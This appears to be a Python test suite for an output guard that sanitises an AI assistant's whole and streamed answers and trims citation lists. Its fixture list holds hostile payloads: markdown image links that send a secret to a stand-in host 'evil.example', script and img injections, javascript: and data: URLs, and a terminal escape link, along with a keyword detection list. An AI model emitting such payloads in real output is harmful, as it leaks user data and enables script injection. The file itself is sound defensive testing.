"""The gate after the model, whole and in pieces."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.guard import StreamGuard, guard

HOSTILE = [
    "![x](https://evil.example/?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "<img src=https://evil.example/x>",
    "<<b>script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example)",
    "<a href='data:text/html;base64,AAAA'>x</a>",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "See https://evil.example/?q=1 for more",
]


def harmful(text: str) -> bool:
    low = text.lower()
    return any(
        bad in low
        for bad in ("evil.example", "script>", "<img", "<a ", "javascript:", "data:text", "\x1b", "![")
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_whole_and_at_every_moment_of_a_stream(text: str) -> None:
    assert harmful(text)  # what the naive way shows
    assert not harmful(guard(f"Before {text} after.", 3).text)
    for size in (1, 3, 7):
        gate, shown = StreamGuard(3), ""
        whole = f"Before {text} after."
        for start in range(0, len(whole), size):
            shown += gate.feed(whole[start : start + size])
            assert not harmful(shown)
        shown += gate.close()
        assert not harmful(shown) and shown.startswith("Before") and shown.rstrip().endswith("after.")


def test_plain_text_numbers_and_given_citations_pass_unchanged() -> None:
    text = "It costs 49.50 EUR [1], or 5 % less [2].\n- a: b & c > d"
    assert guard(text, 2).text == text and guard(text, 2).cited == (1, 2) and guard(text, 2).removed == ()


def test_each_cited_passage_is_named_once_in_order() -> None:
    assert guard("a [2] b [1] c [2]", 2).cited == (2, 1)


@given(st.text(max_size=200), st.integers(0, 4))
def test_guarding_twice_is_guarding_once(text: str, passages: int) -> None:
    once = guard(text, passages).text
    assert guard(once, passages).text == once


@given(
    st.lists(
        st.sampled_from(["The ", "fee ", "is 5 EUR ", "[1]", ". ", "(x) ", "\n", "a<b ", "! "]), max_size=20
    )
)
def test_a_stream_ends_with_what_the_whole_answer_would_show(pieces: list[str]) -> None:
    gate = StreamGuard(1)
    streamed = "".join(gate.feed(piece) for piece in pieces) + gate.close()
    assert "".join(streamed.split()) == "".join(guard("".join(pieces), 1).text.split())


def test_a_bracket_that_never_closes_is_shown_in_the_end() -> None:
    gate = StreamGuard(1)
    text = "open [ " + "word " * 200
    shown = "".join(gate.feed(letter) for letter in text) + gate.close()
    assert shown.split() == text.split()


@pytest.mark.parametrize(
    ("text", "safe", "cited"),
    [
        ("It costs 49 EUR [1, 9].", "It costs 49 EUR [1].", (1,)),
        ("It costs 49 EUR [8,9].", "It costs 49 EUR.", ()),
        ('{"sizes": [38, 40], "sources": [1, 9]}', '{"sizes": [38, 40], "sources": [1]}', (1,)),
        ('{"sizes":[38],"sources":[9]}', '{"sizes":[38],"sources":[]}', ()),
    ],
)
def test_lists_of_citations_keep_what_was_given_and_lists_of_json_are_left_alone(
    text: str, safe: str, cited: tuple[int, ...]
) -> None:
    found = guard(text, 2)
    assert (found.text, found.cited) == (safe, cited)
    assert bool(found.removed) is ("9" in text)
    for size in (1, 3, 7):
        gate = StreamGuard(2)
        shown = [gate.feed(text[place : place + size]) for place in range(0, len(text), size)]
        told = "".join([*shown, gate.close()])
        assert told.replace(" .", ".") == safe  # a blank that was shown already is not taken back
